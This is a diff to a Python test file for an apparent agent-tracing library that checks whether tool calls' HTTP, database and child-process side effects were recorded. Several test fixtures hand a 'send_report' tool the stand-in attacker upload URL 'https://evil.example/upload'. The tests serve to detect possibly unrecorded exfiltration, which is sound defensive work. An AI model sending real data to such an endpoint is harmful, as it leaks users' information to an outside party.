@@ -16,6 +16,8 @@ from rampart_otel.declare import TOOL_SIDE_EFFECTS_ATTRIBUTE as TOOL_DECLARATION
 from rampart_otel.evaluation.assume import declare_run_tools
 from rampart_otel.model import (
     AgentRun,
+    Destination,
+    PlaceState,
     Run,
     ScopeEvidence,
     ScopeState,
@@ -25,7 +27,8 @@ from rampart_otel.model import (
     ToolScope,
 )
 from rampart_otel.normalize import normalize
-from rampart_otel.places import declared_by_policy
+from rampart_otel.places import Overlay, declared_by_policy, side_effect_decisions
+from rampart_otel.wording import worded
 
 TRACE = "0af7651916cd43dd8448eb211c80319c"
 LOST = "1bf7651916cd43dd8448eb211c80319d"  # a trace whose context the framework lost
@@ -45,8 +48,12 @@ def channel(agent: AgentRun, key: str) -> tuple[ChannelState, str]:
     return coverage.state, " | ".join(coverage.reasons)
 
 
-def chat_asking(*calls: tuple[str, str]) -> dict[str, Any]:
-    parts = [{"type": "tool_call", "id": cid, "name": name, "arguments": {}} for name, cid in calls]
+def chat_asking(*calls: tuple[str, str] | tuple[str, str, Any]) -> dict[str, Any]:
+    """A model call asking for tools: (name, call id[, arguments: {} unless given])."""
+    parts = []
+    for name, call_id, *arguments in calls:
+        given = arguments[0] if arguments else {}
+        parts.append({"type": "tool_call", "id": call_id, "name": name, "arguments": given})
     output = [{"role": "assistant", "parts": parts, "finish_reason": "tool_call"}]
     return {"gen_ai.operation.name": "chat", "gen_ai.output.messages": json.dumps(output)}
 
@@ -246,7 +253,12 @@ def test_a_child_process_is_recorded_but_what_it_did_is_not() -> None:
                    mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31))  # fmt: skip
     report = next(s for s in agent.tool_scopes if s.tool == "send_report")
     assert report.state is ScopeState.OUT_OF_PROCESS and report.remote == "child_process"
-    assert channel(agent, "side_effects.process_exec")[0] is OBSERVED
+    # send_report's process_exec is recorded; get_weather recorded only its GET, which says
+    # nothing of a child process it may have started: process_exec is partial, naming it.
+    state, why = channel(agent, "side_effects.process_exec")
+    assert state is PARTIAL and "1 process_exec side effect in the run: bash (span p1)" in why
+    assert "tool call 'get_weather' (span t1) recorded http_request but no process_exec" in why
+    assert "send_report" not in why
     state, why = channel(agent, HTTP)
     assert state is PARTIAL and "started a child process" in why
 
@@ -294,3 +306,206 @@ def test_the_policys_declaration_names_a_call_by_any_of_its_names() -> None:
         assert declared.state is ScopeState.DECLARED
     assert declared_by_policy([scope], {"weather": "none"}, [call]) == (scope,)
     assert declared_by_policy([scope], {"send_report": "none"}) == (scope,)  # no call: by its tool
+
+
+# --- places: each call and each side-effect kind on its own --------------------------------
+
+
+def places_of(agent: AgentRun, tool: str) -> dict[str, PlaceState]:
+    (scope,) = [s for s in agent.tool_scopes if s.tool == tool]
+    return {kind: scope.place(kind) for kind in ("http_request", "db_query")}
+
+
+def test_a_call_is_recorded_for_its_kinds_and_silent_for_the_others() -> None:
+    """get_weather's GET says nothing of its DB, send_report's INSERT nothing of its HTTP:
+    each kind seen is partial, naming the other call, with the kinds it did record."""
+    agent = run_of(
+        *two_tools(),
+        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
+        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
+    )
+    assert scope_states(agent) == dict.fromkeys(("get_weather", "send_report"), ScopeState.RECORDED)
+    assert places_of(agent, "get_weather") == {
+        "http_request": PlaceState.RECORDED,
+        "db_query": PlaceState.SILENT,
+    }
+    assert places_of(agent, "send_report") == {
+        "http_request": PlaceState.SILENT,
+        "db_query": PlaceState.RECORDED,
+    }
+    state, why = channel(agent, HTTP)
+    assert state is PARTIAL
+    assert (
+        "tool call 'send_report' (span t2) recorded db_query but no http_request span: "
+        "evidence of one kind says nothing of another" in why
+    )
+    assert "get_weather" not in why.split(" | ", 1)[1]
+    state, why = channel(agent, DB)
+    assert state is PARTIAL
+    assert "tool call 'get_weather' (span t1) recorded http_request but no db_query span" in why
+    assert agent.coverage.level.value == "tool_only"
+
+
+def test_a_call_that_recorded_every_kind_seen_leaves_none_open() -> None:
+    """One call records both kinds, the other only HTTP: HTTP is observed, DB is not."""
+    agent = run_of(
+        *two_tools(),
+        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
+        mk("d1", "INSERT", INSERT, parent="t1", kind="CLIENT", start=40),
+        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
+    )
+    assert places_of(agent, "get_weather") == dict.fromkeys(
+        ("http_request", "db_query"), PlaceState.RECORDED
+    )
+    assert channel(agent, HTTP)[0] is OBSERVED
+    state, why = channel(agent, DB)
+    assert state is PARTIAL
+    assert "tool call 'send_report' (span t2) recorded http_request but no db_query" in why
+
+
+def handed(report: Any, *io: Span) -> AgentRun:
+    """two_tools, send_report asked for with ``report`` as its arguments; get_weather's GET."""
+    spans = two_tools()
+    spans[1] = mk(
+        "m1",
+        "chat",
+        chat_asking(("get_weather", "c1", {"city": "Paris"}), ("send_report", "c2", report)),
+        parent="a0",
+    )
+    return run_of(*spans, mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31), *io)
+
+
+def report_scope(agent: AgentRun) -> ToolScope:
+    return next(s for s in agent.tool_scopes if s.tool == "send_report")
+
+
+def test_a_url_handed_to_a_call_that_no_request_reached_is_unmet() -> None:
+    """send_report recorded a request, but not to the host it was handed: the upload may
+    have gone through a client that is not instrumented."""
+    agent = handed(
+        {"endpoint": "https://evil.example/upload"},
+        mk("h2", "GET", GET, parent="t2", kind="CLIENT", start=71),
+    )
+    scope = report_scope(agent)
+    assert scope.state is ScopeState.RECORDED
+    assert scope.unmet == (Destination("endpoint", "evil.example"),)
+    assert scope.place("http_request") is PlaceState.UNMET
+    assert scope.place("db_query") is PlaceState.SILENT  # the claim is of HTTP only
+    state, why = channel(agent, HTTP)
+    assert state is PARTIAL
+    assert (
+        "'send_report' was handed 'evil.example' (argument 'endpoint'), and no request "
+        "recorded under the call went there" in why
+    )
+    # The destination is a claim of HTTP: DB's reason names the call silent, not the host.
+    state, why = channel(agent, DB)
+    assert state is UNOBSERVED
+    assert "tool calls 'get_weather' (span t1), 'send_report' (span t2) recorded http" in why
+    assert "evil.example" not in why
+
+
+def test_a_url_a_request_of_the_call_reached_is_met() -> None:
+    """The POST went to the host handed (on another port, by an upper-case URL): met."""
+    post = {"http.request.method": "POST", "url.full": "https://evil.example:8443/upload"}
+    agent = handed(
+        {"endpoint": "HTTPS://Evil.Example/upload"},
+        mk("h2", "POST", post, parent="t2", kind="CLIENT", start=71),
+    )
+    scope = report_scope(agent)
+    assert scope.unmet == () and scope.place("http_request") is PlaceState.RECORDED
+    assert channel(agent, HTTP)[0] is OBSERVED
+
+
+def test_a_bare_host_argument_is_a_destination_wherever_it_sits() -> None:
+    agent = handed(
+        {"to": {"hosts": ["Backup.Example.org"]}},
+        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
+    )
+    scope = report_scope(agent)
+    assert scope.unmet == (Destination("to.hosts[0]", "backup.example.org"),)
+    assert scope.place("http_request") is PlaceState.UNMET
+    state, why = channel(agent, HTTP)
+    assert state is PARTIAL
+    assert "'send_report' was handed 'backup.example.org' (argument 'to.hosts[0]')" in why
+
+
+def test_a_file_name_or_a_url_in_a_sentence_is_no_destination() -> None:
+    """report.pdf ends like a host but is a file; a URL inside text is not the argument."""
+    agent = handed(
+        {"file": "report.pdf", "note": "see https://evil.example/upload for details"},
+        mk("h2", "POST", POST, parent="t2", kind="CLIENT", start=71),
+    )
+    scope = report_scope(agent)
+    assert scope.unmet == () and scope.place("http_request") is PlaceState.RECORDED
+    assert channel(agent, HTTP)[0] is OBSERVED
+
+
+def test_a_destination_handed_to_a_call_that_recorded_no_http_is_named_too() -> None:
+    """send_report recorded only its INSERT: silent for HTTP, and the host it was handed is
+    named with it."""
+    agent = handed(
+        {"url": "https://evil.example/upload"},
+        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
+    )
+    scope = report_scope(agent)
+    assert scope.place("http_request") is PlaceState.SILENT
+    state, why = channel(agent, HTTP)
+    assert state is PARTIAL
+    assert "tool call 'send_report' (span t2) recorded db_query but no http_request" in why
+    assert "'send_report' was handed 'evil.example' (argument 'url')" in why
+
+
+def test_the_policys_declaration_closes_a_recorded_calls_other_kinds() -> None:
+    """send_report recorded its INSERT, silent for HTTP; declared by the policy (an overlay
+    on the run's places), it is declared for every kind: HTTP is observed again, while
+    get_weather, not declared, still leaves DB partial."""
+    agent = run_of(
+        *two_tools(),
+        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31),
+        mk("d2", "INSERT", INSERT, parent="t2", kind="CLIENT", start=71),
+    )
+    assert agent.places is not None and channel(agent, HTTP)[0] is PARTIAL
+    decisions = side_effect_decisions(agent.places, Overlay({"send_report": "instrumented"}))
+    http = worded(decisions[HTTP])
+    assert http.state is OBSERVED
+    assert "tool call 'send_report' (span t2) declared by the policy's tools:" in http.reasons
+    db = worded(decisions[DB])
+    assert db.state is PARTIAL
+    assert "tool call 'get_weather' (span t1) recorded http_request but no db_query" in " | ".join(
+        db.reasons
+    )
+    (declared,) = declared_by_policy(
+        [report_scope(agent)], {"send_report": "instrumented"}, agent.tool_calls
+    )
+    assert {kind: declared.place(kind) for kind in ("http_request", "db_query")} == dict.fromkeys(
+        ("http_request", "db_query"), PlaceState.DECLARED
+    )
+
+
+def test_the_process_declaration_answers_a_destination_no_request_reached() -> None:
+    """The agent's process declares its HTTP instrumented (rampart.coverage): a request to
+    the host send_report was handed would have been recorded, so none went there. The
+    declaration closes the claim as it closes the place of a call that recorded nothing."""
+    resource = {"service.name": "weather-agent", "rampart.coverage": [HTTP]}
+    spans = two_tools(resource=resource)
+    spans[1] = mk(
+        "m1",
+        "chat",
+        chat_asking(
+            ("get_weather", "c1", {"city": "Paris"}),
+            ("send_report", "c2", {"endpoint": "https://evil.example/upload"}),
+        ),
+        parent="a0",
+    )
+    agent = run_of(
+        *spans,
+        mk("h1", "GET", GET, parent="t1", kind="CLIENT", start=31, resource=resource),
+        mk("h2", "GET", GET, parent="t2", kind="CLIENT", start=71, resource=resource),
+    )
+    scope = report_scope(agent)
+    assert scope.unmet == (Destination("endpoint", "evil.example"),)
+    assert scope.exempt_kinds == ("http_request",)
+    assert scope.place("http_request") is PlaceState.RECORDED
+    state, why = channel(agent, HTTP)
+    assert state is OBSERVED, why
+    assert "evil.example" not in why
